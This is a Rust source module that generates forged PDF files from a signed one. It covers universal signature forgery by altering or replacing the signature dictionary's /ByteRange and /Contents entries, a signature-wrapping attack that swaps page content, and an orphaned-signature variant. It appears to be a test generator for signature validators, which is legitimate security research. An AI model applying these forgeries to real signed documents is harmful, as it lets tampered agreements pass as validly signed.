//! Universal signature forgery and wrapping: the signature dictionary says less than it has to, or points elsewhere.

use yinxin::pdf::{Dictionary, Object, Stream, StreamData};

use super::target::Target;
use super::{Attack, Error};

/// Room for the numbers of a `ByteRange` that is known only when all else is written.
const WIDE: i64 = 9_000_000_000;

/// Forged dictionaries in place of the signed one, altered where they stand, and wrapped ones.
pub(crate) fn all(signed: &[u8]) -> Result<Vec<Attack>, Error> {
    let target = Target::read(signed)?;
    let mut attacks = in_place(&target)?;
    attacks.extend(replaced(&target)?);
    attacks.push(wrapped(&target)?);
    attacks.push(orphan(&target)?);
    Ok(attacks)
}

/// Altered where it stands, each to the same length.
fn in_place(target: &Target) -> Result<Vec<Attack>, Error> {
    let (first, second) = target.gap;
    let alter = |(name, key, other): (&str, &str, &str)| {
        // The dictionary's other entries stand around the gap.
        let around = first.saturating_sub(1_000)..(second + 1_000).min(target.bytes.len());
        let places = around.filter(|at| target.bytes[*at..].starts_with(key.as_bytes()));
        let outside = places.rev().find(|at| *at < first || *at >= second);
        let at = outside.ok_or_else(|| format!("no {key} around the signature"))?;
        let mut bytes = target.bytes.clone();
        bytes[at..at + other.len()].copy_from_slice(other.as_bytes());
        Ok(Attack::new(format!("forgery-{name}"), bytes))
    };
    let cases = [
        ("range-gone", "/ByteRange", "/ByteRangf"),
        ("range-null", "/ByteRange [0 ", "/ByteRange null% "),
        ("range-negative", "/ByteRange [0 ", "/ByteRange [-1"),
        ("range-shifted", "/ByteRange [0 ", "/ByteRange [1 "),
        ("contents-gone", "/Contents <", "/Contentz <"),
        ("sub-filter-gone", "/SubFilter", "/SubFiltes"),
    ];
    let mut attacks = cases.into_iter().map(alter).collect::<Result<Vec<_>, Error>>()?;
    let fill = |name: &str, digits: &[u8]| {
        let mut bytes = target.bytes.clone();
        bytes[first..second].fill(b' ');
        bytes[first..first + digits.len()].copy_from_slice(digits);
        Attack::new(format!("forgery-{name}"), bytes)
    };
    attacks.push(fill("contents-null", b"null"));
    attacks.push(fill("contents-empty", b"<>"));
    attacks.push(fill("contents-zero", b"<00>"));
    attacks.push(fill("contents-shorter", b"<3003020101>"));
    let mut zeros = target.bytes.clone();
    zeros[first + 1..second - 1].fill(b'0');
    attacks.push(Attack::new("forgery-contents-zeros", zeros));
    Ok(attacks)
}

/// Another dictionary in its place, by an update.
fn replaced(target: &Target) -> Result<Vec<Attack>, Error> {
    let entries = &target.signature_entries;
    let without = |key: &str| {
        let mut entries = entries.clone();
        entries.remove(key);
        entries
    };
    let range = |numbers: &[i64]| {
        let numbers = numbers.iter().copied().map(Object::Integer).collect();
        entries.clone().with("ByteRange", Object::Array(numbers))
    };
    let (first, second) = (i64::try_from(target.gap.0)?, i64::try_from(target.gap.1)?);
    let length = i64::try_from(target.bytes.len())?;
    let cases: [(&str, Dictionary); 10] = [
        ("without-range", without("ByteRange")),
        ("without-contents", without("Contents")),
        ("without-sub-filter", without("SubFilter")),
        (
            "contents-empty",
            entries.clone().with("Contents", Object::String(Vec::new())),
        ),
        ("range-empty", range(&[])),
        ("range-zeros", range(&[0, 0, 0, 0])),
        ("range-of-one", range(&[0, length])),
        ("range-of-six", range(&[0, first, second, 0, second, length - second])),
        ("range-huge", range(&[0, first, second, i64::MAX])),
        (
            "other-reason",
            entries.clone().with("Reason", Object::String(b"approved".to_vec())),
        ),
    ];
    let attack = |(name, entries): (&str, Dictionary)| {
        let bytes = target.updated(|update| Ok(update.put(target.signature, &Object::Dictionary(entries))?))?;
        Ok(Attack::new(format!("spoofed-dictionary-{name}"), bytes))
    };
    cases.into_iter().map(attack).collect()
}

/// Signature wrapping: the dictionary is replaced by one whose second range is a copy of what was signed, further down,
/// and the page is another.
fn wrapped(target: &Target) -> Result<Attack, Error> {
    let (first, second) = target.gap;
    let tail = target.bytes[second..].to_vec();
    let write = |second_start: i64| {
        target.updated(|update| {
            let numbers = [0, first as i64, second_start, tail.len() as i64].map(Object::Integer);
            let entries = target.signature_entries.clone();
            let entries = entries.with("ByteRange", Object::Array(numbers.to_vec()));
            update.put(target.signature, &Object::Dictionary(entries))?;
            update.put(target.content, &stream(b"0 0 0 rg 0 0 999 999 re f"))?;
            update.add(&stream(&tail))?;
            Ok(())
        })
    };
    let draft = write(WIDE)?;
    let copy = draft.windows(tail.len()).rposition(|window| window == tail);
    // The number of as many digits keeps every other offset.
    let place = copy.ok_or("the copy is not there")? as i64;
    let digits = format!("{place}");
    let mut bytes = draft;
    let wide = format!("{WIDE}");
    let at = bytes.windows(wide.len()).rposition(|window| window == wide.as_bytes());
    let at = at.ok_or("the number is not there")?;
    bytes[at..at + wide.len()].fill(b' ');
    bytes[at..at + digits.len()].copy_from_slice(digits.as_bytes());
    Ok(Attack::new("wrapping-range-moved", bytes))
}

/// The field has lost its signature, which is still there for a reader that searches.
fn orphan(target: &Target) -> Result<Attack, Error> {
    let mut field = target.field_entries.clone();
    field.remove("V");
    let bytes = target.updated(|update| Ok(update.put(target.field, &Object::Dictionary(field))?))?;
    Ok(Attack::new("spoofed-dictionary-orphaned", bytes))
}

/// A stream of plain data.
pub(crate) fn stream(data: &[u8]) -> Object {
    Object::Stream(Stream {
        dictionary: Dictionary::new(),
        data: StreamData::Held(data.to_vec()),
    })
}
